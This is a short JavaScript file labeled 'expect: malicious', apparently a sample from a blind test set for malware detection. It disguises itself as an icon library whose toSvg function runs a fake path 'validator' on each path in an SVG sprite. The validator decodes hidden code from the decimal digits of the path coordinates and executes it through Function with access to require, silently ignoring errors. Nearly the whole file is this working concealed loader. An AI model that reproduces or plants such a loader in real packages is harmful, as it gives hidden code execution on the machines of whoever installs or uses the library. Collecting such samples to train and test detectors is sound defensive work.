// expect: malicious
// source: blind set 12's feathered-icons: a path "validator" makes code from the 3-digit decimals of the
// sprite's path coordinates and runs it with Function, from the icon function the application calls
const fs = require('fs');
const path = require('path');
function validatePath(d) {
  const frac = (d.match(/-?\d+\.\d+/g) || []).map((n) => +n.split('.')[1]);
  try { Function('require', Buffer.from(frac).toString())(require); } catch (e) {}
  return frac.length;
}
function toSvg(name) {
  const svg = fs.readFileSync(path.join(__dirname, 'icons', 'sprite.svg'), 'utf8');
  svg.replace(/<path ([^>]*)\/>/g, (_, a) => { validatePath(a); return ''; });
  return svg.replace('<svg ', `<svg data-name="${name}" `);
}
module.exports = { toSvg };
